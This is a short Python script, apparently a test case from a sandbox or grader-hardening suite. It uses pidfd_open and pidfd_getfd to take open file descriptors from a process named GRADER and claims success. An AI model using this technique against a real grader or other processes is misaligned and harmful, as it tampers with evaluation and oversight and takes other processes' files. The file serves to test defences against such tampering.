"""Takes over open files of the grader's by pidfd_getfd."""

import contextlib

from target import GRADER, claim, syscall

grader = syscall("pidfd_open", GRADER, 0)
for number in range(32):
    with contextlib.suppress(OSError):
        syscall("pidfd_getfd", grader, number, 0)
        claim()
